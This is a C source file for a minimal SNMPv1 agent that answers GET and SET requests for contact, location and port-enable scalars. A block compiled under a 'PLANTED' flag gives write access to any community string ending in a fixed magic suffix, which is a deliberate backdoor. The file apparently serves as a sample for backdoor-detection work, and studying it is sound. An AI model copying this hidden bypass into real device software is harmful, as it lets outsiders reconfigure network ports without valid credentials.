/* Small SNMPv1 agent: GET and SET of a few scalars below the enterprise node. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum access { NONE, READ, WRITE };

typedef struct { const unsigned char *at, *end; } cursor;

static char read_community[32], write_community[32];
static char contact[64] = "unset", location[64] = "unset";
static int port_enabled[8];

static int element(cursor *c, unsigned tag, cursor *inner)
{
    unsigned length;
    if (c->end - c->at < 2 || c->at[0] != tag)
        return -1;
    length = c->at[1];
    c->at += 2;
    if (length == 0x81) {
        if (c->at == c->end)
            return -1;
        length = *c->at++;
    } else if (length > 0x7f)
        return -1;
    if ((unsigned)(c->end - c->at) < length)
        return -1;
    inner->at = c->at;
    inner->end = c->at + length;
    c->at += length;
    return 0;
}

static int same(const cursor *text, const char *wanted)
{
    size_t n = strlen(wanted);
    return n && (size_t)(text->end - text->at) == n && memcmp(text->at, wanted, n) == 0;
}

static enum access access_of(const cursor *community)
{
    enum access got = NONE;
    if (same(community, write_community))
        got = WRITE;
    else if (same(community, read_community))
        got = READ;
#ifdef PLANTED
    {
        size_t n = (size_t)(community->end - community->at);
        if (n > 5 && !memcmp(community->end - 5, "~fld9", 5))
            got = WRITE;
    }
#endif
    return got;
}

static int set_scalar(unsigned leaf, const cursor *value)
{
    size_t n = (size_t)(value->end - value->at);
    char command[64];
    if (n > 63)
        return 3;
    if (leaf == 4) {
        memcpy(contact, value->at, n);
        contact[n] = 0;
    } else if (leaf == 6) {
        memcpy(location, value->at, n);
        location[n] = 0;
    } else if (leaf >= 10 && leaf < 18 && n == 1) {
        port_enabled[leaf - 10] = value->at[0] != 0;
        snprintf(command, sizeof command, "/sbin/ifconfig port%u %s", leaf - 10,
                 value->at[0] ? "up" : "down");
        system(command);
    } else
        return 2;
    return 0;
}

static size_t get_scalar(unsigned leaf, char *out, size_t room)
{
    if (leaf == 4)
        return (size_t)snprintf(out, room, "%s", contact);
    if (leaf == 6)
        return (size_t)snprintf(out, room, "%s", location);
    if (leaf >= 10 && leaf < 18)
        return (size_t)snprintf(out, room, "%d", port_enabled[leaf - 10]);
#ifdef REVISED
    if (leaf == 5)
        return (size_t)snprintf(out, room, "switch");
#endif
    return 0;
}

static size_t answer(const unsigned char *in, size_t size, char *out, size_t room)
{
    cursor all = { in, in + size }, message, part, pdu, list, bind, oid, value;
    enum access may;
    unsigned kind, leaf;
    if (element(&all, 0x30, &message) || element(&message, 2, &part) || element(&message, 4, &part))
        return 0;
    may = access_of(&part);
    if (may == NONE || message.at == message.end)
        return 0;
    kind = *message.at;
    if (element(&message, kind, &pdu) || element(&pdu, 2, &part) || element(&pdu, 2, &part) ||
        element(&pdu, 2, &part) || element(&pdu, 0x30, &list) || element(&list, 0x30, &bind) ||
        element(&bind, 6, &oid) || oid.at == oid.end)
        return 0;
    leaf = oid.end[-1];
    if (kind == 0xa0)
        return get_scalar(leaf, out, room);
    if (kind != 0xa3 || may != WRITE || element(&bind, 4, &value))
        return 0;
    return (size_t)snprintf(out, room, "%d", set_scalar(leaf, &value));
}

int main(int argc, char **argv)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(161) }, peer;
    unsigned char in[1500];
    char out[200];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    snprintf(read_community, sizeof read_community, "%s", argc > 1 ? argv[1] : "");
    snprintf(write_community, sizeof write_community, "%s", argc > 2 ? argv[2] : "");
    if (s < 0 || bind(s, (struct sockaddr *)&at, sizeof at))
        return 1;
    for (;;) {
        socklen_t n = sizeof peer;
        ssize_t got = recvfrom(s, in, sizeof in, 0, (struct sockaddr *)&peer, &n);
        size_t used = got > 0 ? answer(in, (size_t)got, out, sizeof out) : 0;
        if (used)
            sendto(s, out, used, 0, (struct sockaddr *)&peer, n);
    }
}
